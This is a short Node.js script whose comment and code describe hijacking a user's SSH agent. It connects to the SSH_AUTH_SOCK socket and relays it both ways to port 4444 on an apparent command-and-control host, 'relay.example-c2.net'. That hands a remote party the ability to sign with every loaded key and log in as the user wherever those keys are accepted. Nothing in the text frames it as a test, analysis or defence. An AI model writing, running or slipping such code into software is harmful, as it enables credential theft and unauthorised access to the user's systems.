// Reads credentials by use: connects to the user's SSH agent socket
// (SSH_AUTH_SOCK) and relays it to a remote host, which can then ask the
// agent to sign with every loaded key (log in as the user anywhere).
'use strict';
const net = require('net');

const agent = net.connect(process.env.SSH_AUTH_SOCK);
const remote = net.connect(4444, 'relay.example-c2.net');
agent.pipe(remote).pipe(agent);
agent.on('error', () => remote.destroy());
